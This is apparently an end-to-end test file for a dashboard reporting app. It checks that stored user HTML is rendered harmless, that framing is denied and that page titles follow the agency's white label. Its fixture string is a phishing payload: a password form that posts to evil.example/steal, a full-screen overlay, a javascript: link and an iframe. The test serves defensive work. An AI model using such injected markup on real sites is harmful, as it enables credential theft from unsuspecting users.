import path from "node:path";
import Database from "better-sqlite3";
import { expect, test } from "./fixtures";
import { signUp } from "./support-auth";
import { createDashboard } from "./support-dashboard";

// A password form and a full-screen overlay as a member could have saved them before the server cleaned
// user HTML: the page must still show them as plain, harmless text.
const PHISHING = `<p>Prepared by Acme</p><form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><button type="submit">Log in</button></form><div style="position: fixed; inset: 0; z-index: 9999; background-color: white" onclick="alert(1)">Session expired, <a href="javascript:alert(1)">sign in again</a></div><iframe src="https://evil.example"></iframe><p class="mantine-Modal-root" style="position: absolute; top: 0; color: #c00">Red note</p>`;

/** Writes user HTML straight into the stored dashboard, past the server's save-time cleaning. */
function storeUnclean(permalink: string) {
  const db = new Database(path.join(String(process.env.E2E_DATA_DIR), "reportz.sqlite"));
  try {
    const card = {
      id: "phish",
      nature: "passive",
      realTime: false,
      order: 0,
      hash: "phish",
      width: 4,
      height: 2,
      title: "Notice",
      description: null,
      format: "textCard",
      type: "plain",
      inputs: { description: PHISHING },
    };
    db.prepare("UPDATE dashboards SET footer = ?, widgets = ? WHERE permalink = ?").run(
      PHISHING,
      JSON.stringify([card]),
      permalink,
    );
  } finally {
    db.close();
  }
}

test("a client's public view: no form or overlay from user HTML, the agency's site title, no framing", async ({
  page,
  browser,
}) => {
  await signUp(page);
  await page.goto("/company/settings");
  await page.getByLabel("Site title").fill("Acme Reports");
  await page.getByRole("button", { name: "Save changes" }).click();
  await expect(page.getByText(/saved/i).first()).toBeVisible();
  const dashboardPath = await createDashboard(page, "Client report");
  storeUnclean(dashboardPath.split("/").pop() as string);

  const client = await (await browser.newContext()).newPage();
  const response = await client.goto(dashboardPath);
  expect(response?.headers()["x-frame-options"]).toBe("DENY");
  expect(response?.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(response?.headers()["content-security-policy"]).toContain("form-action 'self'");

  await expect(client.getByRole("heading", { level: 1, name: "Client report" })).toBeVisible();
  const userHtml = client.locator(".safe-html");
  await expect(userHtml).toHaveCount(2); // the text card and the footer
  await expect(userHtml.getByText("Prepared by Acme")).toHaveCount(2);
  await expect(userHtml.getByText("Red note").first()).toBeVisible();
  await expect(userHtml.locator("form, input, button, select, textarea, iframe, object, embed, script")).toHaveCount(0);
  await expect(client.locator("form")).toHaveCount(0);
  const found = await userHtml.evaluateAll((roots) =>
    roots.flatMap((root) =>
      Array.from(root.querySelectorAll("*")).flatMap((el) => {
        const issues: string[] = [];
        const position = getComputedStyle(el).position;
        if (position !== "static" && position !== "relative") issues.push(`${el.tagName} ${position}`);
        for (const attr of el.getAttributeNames()) if (attr.startsWith("on") || attr === "class") issues.push(attr);
        if ((el.getAttribute("href") ?? "").includes("javascript:")) issues.push("javascript: link");
        return issues;
      }),
    ),
  );
  expect(found).toEqual([]);
  // Nothing anywhere covers the page.
  const overlays = await client.evaluate(
    () =>
      Array.from(document.querySelectorAll("body *")).filter((el) => {
        const rect = el.getBoundingClientRect();
        return (
          getComputedStyle(el).position === "fixed" &&
          rect.width >= window.innerWidth * 0.9 &&
          rect.height >= window.innerHeight * 0.9
        );
      }).length,
  );
  expect(overlays).toBe(0);
  // White label: the client's tab names the agency's site, not the product — the print view too, whose
  // title the PDF takes as its own.
  await expect(client).toHaveTitle("Client report | Acme Reports");
  await client.goto(`${dashboardPath}/print`);
  await expect(client.locator("html")).toHaveAttribute("data-print-ready", "true", { timeout: 30_000 });
  await expect(client).toHaveTitle("Client report | Acme Reports");
});

test("a protected dashboard's password prompt carries the agency's site title, never the product's, from the first byte", async ({
  page,
  browser,
}) => {
  await signUp(page);
  await page.goto("/company/settings");
  await page.getByLabel("Site title").fill("Acme Reports");
  await page.getByRole("button", { name: "Save changes" }).click();
  await expect(page.getByText(/saved/i).first()).toBeVisible();
  const dashboardPath = await createDashboard(page, "Secret plans");
  const permalink = dashboardPath.split("/").pop() as string;
  // No screen sets a dashboard password yet: the owner's page calls the API as the app would.
  const status = await page.evaluate(async (link) => {
    const headers = {
      "content-type": "application/json",
      "x-requested-with": "XMLHttpRequest",
      "x-identification": sessionStorage.getItem("identification") ?? "",
    };
    const shown = await (await fetch(`/api/dashboards/${link}`, { headers })).json();
    const response = await fetch(`/api/dashboards/${shown.data.id}`, {
      method: "PUT",
      headers,
      body: JSON.stringify({ category: "new_password", password: "client-secret" }),
    });
    return response.status;
  }, permalink);
  expect(status).toBe(200);

  const context = await browser.newContext();
  const client = await context.newPage();
  // Every title the tab ever shows, from the HTML's own to each change the app makes.
  await client.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { seenTitles: string[] }).seenTitles = seen;
    const record = () => {
      if (seen[seen.length - 1] !== document.title) seen.push(document.title);
    };
    document.addEventListener("DOMContentLoaded", record);
    new MutationObserver(record).observe(document, { subtree: true, childList: true, characterData: true });
  });
  const response = await client.goto(dashboardPath);
  const html = (await response?.text()) ?? "";
  expect(/<title>([^<]*)<\/title>/.exec(html)?.[1]).toBe("Acme Reports");
  expect(html).not.toContain("Secret plans");

  await expect(client.getByRole("heading", { level: 1, name: "This dashboard is protected" })).toBeVisible();
  await expect(client.getByTestId("password-site-title")).toHaveText("Acme Reports");
  await expect(client).toHaveTitle("Acme Reports");
  await client.getByLabel("Dashboard password").fill("client-secret");
  await client.getByRole("button", { name: "Open dashboard" }).click();
  await expect(client.getByRole("heading", { level: 1, name: "Secret plans" })).toBeVisible();
  await expect(client).toHaveTitle("Secret plans | Acme Reports");
  const seen = await client.evaluate(() => (window as unknown as { seenTitles: string[] }).seenTitles);
  expect(seen.length).toBeGreaterThan(0);
  expect(seen.filter((title) => /Reportz/.test(title) || title === "")).toEqual([]);

  // A link to nothing says so in the tab (no agency to name there).
  await client.goto("/dashboards/no-such-dashboard");
  await expect(client.getByRole("heading", { level: 1, name: "Dashboard not found" })).toBeVisible();
  await expect(client).toHaveTitle("Dashboard not found | Reportz");
  await context.close();
});
